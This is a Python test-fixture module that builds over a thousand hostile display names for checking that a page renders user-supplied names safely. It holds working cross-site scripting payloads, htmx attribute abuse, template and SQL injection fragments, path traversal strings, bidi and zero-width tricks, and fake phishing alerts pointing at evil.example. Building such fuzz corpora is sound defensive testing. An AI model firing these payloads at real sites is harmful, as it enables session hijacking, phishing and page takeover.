"""A thousand things a stranger might call himself to break the page that shows it, or to look like a part of it.

`HOSTILE` are sixty written by hand; `THOUSAND` adds what generators make of many shapes and contexts. Whatever of it
ran would set `window.hit`, or open a dialog.
"""

from collections.abc import Iterator
from itertools import cycle, islice, product

RLO, ZWSP, ESC, NUL = "\u202e", "\u200b", "\x1b", "\x00"

SCRIPTS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    '"><img src=x onerror=window.hit=1>',
    "'><img src=x onerror=window.hit=1>",
    "</title><script>window.hit=1</script>",
    "</code><script>window.hit=1</script>",
    "</bdi><iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src=javascript:parent.hit=1>",
    "<a href=javascript:window.hit=1>press me</a>",
    "<a href=data:text/html,<script>opener.hit=1</script>>x</a>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<form action=//evil.example><button>Log in again</button></form>",
    "<div hx-get=/logout hx-trigger=load></div>",
    "<div hx-on:load=window.hit=1 hx-trigger=load></div>",
    "<div data-hx-get=//evil.example data-hx-trigger=load></div>",
    "<div id=live hx-sse:connect=//evil.example></div>",
    "<hx-partial hx-target=body>gone</hx-partial>",
    "{{ 7*7 }}{% include 'base.py' %}",
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "<!-- --!><script>window.hit=1</script>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "<img src=x\x0conerror=window.hit=1>",
)

SHAPES = (
    "a" + "\u0301" * 5000,
    "Z" + "\u0335\u0489\u20dd" * 2000 + "algo",
    f"Lena {RLO}gpj.eno{RLO} Berg",
    "\u202a\u202b\u202d\u2066\u2067\u2068" * 50 + "Lena",
    "x" * 100_000,
    "\u5927" * 100_000,
    "W" * 300,
    "\ufdfd" * 60,
    "\U0001242b" * 60,
    ZWSP * 1000,
    f"L{ZWSP}e{ZWSP}n{ZWSP}a\u2060\ufeff\u00ad",
    f"{ESC}[2J{ESC}[31mLena{ESC}[0m{NUL}\x07\x08\x7f\x9b",
    "Lena\r\n\r\n\u2028\u2029\tBerg",
    "\ud800Lena\udfff",
    "\u3164\u2800\u115f",
    "",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
)

HOSTILE = SCRIPTS + SHAPES

CODES = ("window.hit=1", "top.hit=1", "alert(1)", "confirm`1`", "prompt(document.cookie)", "self['hit']=1", "hit=1")
TAGS = (
    "<script>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={} />#x'>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math href=javascript:{}>x</math>",
    "<iframe onload={}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<audio src onerror={}></audio>",
    "<video poster=javascript:{} onloadstart={}></video>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button formaction=javascript:{} autofocus>I know this person</button>",
    "<form action=javascript:{}><input type=submit></form>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<body onpageshow={}>",
    "<div onpointerover={} style=position:fixed;inset:0>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>",
    "<style onload={}>*{{display:none}}</style>",
    "<link rel=stylesheet href=data:text/css,* onerror={}>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<base href=javascript:{}//>",
    "<a href=javascript:{} autofocus tabindex=1 onfocus={}>x</a>",
    "<template><img src=x onerror={}></template>",
    "<dialog open onclose={}>Log in again</dialog>",
    "<p popover id=desk onbeforetoggle={}>x</p>",
    "<xss contenteditable onbeforeinput={} autofocus>x</xss>",
    "<hx-partial hx-target=body><img src=x onerror={}></hx-partial>",
    "<div hx-get=/account hx-trigger=load hx-on:load={}></div>",
)
OPENINGS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</bdi></p></main>",
    "-->",
    "]]>",
    "\x00",
    "`;",
    '\\">',
    "</svg></math>",
    "</noscript></template>",
)
SCHEMES = (
    "javascript:",
    "JAVASCRIPT:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,<script>",
    "data:image/svg+xml,<svg onload=",
    "blob:",
    "file:///etc/",
    "view-source:javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "jav&#x0A;ascript:",
    "https://user:pass@evil.example/",
    "//evil.example/",
    "\\\\evil.example\\",
)
TEMPLATES = (
    "{{{{ {} }}}}",
    "{{% set x={} %}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[{}]]",
    "%({})s",
    "%s%n{}",
    "{{{}!r:>99}}",
    "{{{{ self._TemplateReference__context }}}}{}",
    "{{{{ ''.__class__.__mro__ }}}}{}",
    "{{{{ cycler.__init__ }}}}{}",
    "`{}`",
    "$({})",
    "';{}--",
    '" OR 1=1;{}',
    "../../{}",
    "%00{}",
    "\\u003cscript\\u003e{}",
    "&lt;script&gt;{}",
)
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO = (
    "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u180e\u3164\u115f\u2800\ufff9\ufffb\U000e0001"
)
MARKS = "\u0300\u0301\u0335\u0338\u0489\u0610\u064e\u0e49\u0e4a\u1dc0\u20d0\u20dd\u20e3\ufe20\U0001d165"
ALERTS = (
    "Screener: nothing needs you",
    "Act now: pay at https://evil.example to unlock this page",
    "Your log-in has run out. Log in again: http://evil.example/login",
    "I know this person",
    "✔ Verified by Screener",
    "This alert is closed.",
    "▲ live",
    "Kim said: everything is fine",
    "[Mark as known](https://evil.example)",
    "SCREENER WARNING: call +44 1632 960999 now",
)
LONG = (
    "W",
    "i",
    "\u5927",
    "\ufdfd",
    "\U0001242b",
    "\U0001f469\u200d",
    "a\u0301",
    "-",
    "\u00a0",
    "ab ",
    "\U0001f1e9",
    "﷽‌",
    "\u0e49",
)


def generated() -> Iterator[str]:
    """The same thousand and more each time."""
    codes = cycle(CODES)
    for tag, opening in product(TAGS, OPENINGS):
        code = next(codes)
        yield opening + tag.format(*[code] * tag.count("{}"))
    for scheme in SCHEMES:
        yield from (f"{scheme}{code}" for code in CODES[:4])
    yield from (each.format(code) for each, code in product(TEMPLATES, CODES[:2]))
    for mark in BIDI:
        yield from (f"Lena {mark}Berg", mark * 500, f"{mark}gpj.{mark}anel", f"{mark}</bdi>{mark}<b>")
    for mark in ZERO:
        yield from (f"Le{mark}na", mark * 400, f"{mark}Screener{mark}")
    for mark in MARKS:
        yield from ("e" + mark * 5000, f"L{mark * 9}e{mark * 9}na", mark * 300)
    for number in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"Lena{chr(number)}Berg{chr(number) * 3}"
    for text in ALERTS:
        yield from (
            text,
            f"{text}\n\n{text}",
            f"<h1>{text}</h1>",
            f"<a class=card href=/logout>{text}</a>",
            text.upper(),
        )
    for colour in range(30, 38):
        yield f"{ESC}[{colour}mred{ESC}[0m{ESC}]0;title\x07{ESC}[2J"
    for half in ("\ud800", "\udbff", "\udc00", "\udfff"):
        yield from (half, f"Lena{half}", f"{half}<b>{half}", half * 200)
    for letter in LONG:
        yield from (letter * 90, letter * 2000, letter * 100_000)


THOUSAND = tuple(dict.fromkeys((*HOSTILE, *generated())))
SOME = tuple(islice(THOUSAND, 0, None, 9))
